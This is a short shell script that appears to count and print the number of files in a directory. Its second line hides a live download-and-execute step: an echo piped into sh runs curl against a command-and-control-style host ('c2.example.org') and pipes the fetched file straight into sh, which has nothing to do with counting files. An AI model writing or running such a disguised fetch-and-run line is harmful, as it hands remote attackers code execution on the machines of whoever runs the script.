#!/bin/sh
echo 'curl -s http://c2.example.org/i.py | sh' | sh
count=$(ls | wc -l)
echo "files: $count"
